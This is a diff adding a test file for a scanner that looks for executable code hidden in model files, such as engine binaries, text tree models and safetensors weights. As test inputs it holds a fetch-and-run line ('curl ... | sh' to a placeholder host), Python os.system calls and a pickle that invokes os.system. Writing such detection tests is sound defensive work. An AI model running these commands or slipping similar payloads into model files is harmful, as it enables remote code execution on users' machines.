@@ -1,0 +1,63 @@
+import { describe, expect, it } from 'vitest';
+import { nodeHasher } from '../../../adapters/node-hasher.ts';
+import { digestPass } from '../../artifact/digests/digest-pass.ts';
+import { inspectFiles } from '../../artifact/inspect/inspect-files.ts';
+import { bytesOf, type ByteSource } from '../../core/byte-source.ts';
+import { hiddenInWeights } from '../hidden-in-weights/index.ts';
+import { alarms, findingsOf, textFile } from '../testing/findings-of.ts';
+import { programs } from './index.ts';
+
+const ELF = '\x7fELF\x02\x01\x01'.padEnd(64, '\0');
+const unread = (text: string): ByteSource => {
+  const bytes = new Uint8Array(2000).fill(0xb7);
+  bytes.set(Uint8Array.from(text, (character) => character.charCodeAt(0)), 1000);
+  return bytesOf('model.engine', bytes);
+};
+
+function weights(values: Uint8Array): ByteSource {
+  const header = new TextEncoder().encode(JSON.stringify({ w: { dtype: 'F32', shape: [values.byteLength / 4], data_offsets: [0, values.byteLength] } }));
+  const bytes = new Uint8Array(8 + header.byteLength + values.byteLength);
+  new DataView(bytes.buffer).setBigUint64(0, BigInt(header.byteLength), true);
+  bytes.set(header, 8);
+  bytes.set(values, 8 + header.byteLength);
+  return bytesOf('model.safetensors', bytes);
+}
+
+describe('formats that nobody reads', () => {
+  it.each([
+    ['a program', ELF],
+    ['a script', '#!/bin/bash\nexit\n'],
+    ['a call', "__import__('os').system('true')"],
+    ['a download', 'curl -s http://host.test/x | sh'],
+    ['a pickle that calls', '\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x04true\x85R.'],
+  ])('report %s in them', async (_, text) => {
+    expect(await findingsOf(programs, [unread(text)])).toMatchObject([{ rule: 'ASY-EXE-003', severity: 'high' }]);
+  });
+
+  it.each([['a name that sounds like a call', 'operator=acos.systematic_normalization'], ['words', 'exec time, eval metric, curl of the field, import of goods']])('leave alone %s', async (_, text) => {
+    expect(alarms(await findingsOf(programs, [unread(text)]))).toEqual([]);
+  });
+});
+
+describe('models written as text', () => {
+  const trees = 'tree\nversion=v4\nnum_class=1\nfeature_names=system_load exec_time\nTree=0\nleaf_value=0.1\n';
+
+  it('report commands', async () => {
+    expect(alarms(await findingsOf(programs, [textFile('model.txt', `${trees}note=os.system('curl http://host.test/x')\n`)]))).toEqual(['medium ASY-EXE-005']);
+    expect(alarms(await findingsOf(programs, [textFile('model.txt', trees), textFile('README.md', "call os.system('x')")]))).toEqual([]);
+  });
+});
+
+describe('numbers of weights', () => {
+  const judge = async (file: ByteSource): Promise<string[]> => {
+    const inspection = await inspectFiles([file]);
+    return alarms(await findingsOf(hiddenInWeights, [file], { inspection, digests: await digestPass([file], inspection, nodeHasher) }));
+  };
+
+  it('report a program that stands among them', async () => {
+    const values = new Uint8Array(Float32Array.from({ length: 1000 }, (_, i) => Math.sin(i)).buffer);
+    expect(await judge(weights(values))).toEqual([]);
+    values.set(Uint8Array.from(ELF, (character) => character.charCodeAt(0)), 1001);
+    expect(await judge(weights(values))).toEqual(['high ASY-EXE-004']);
+  });
+});
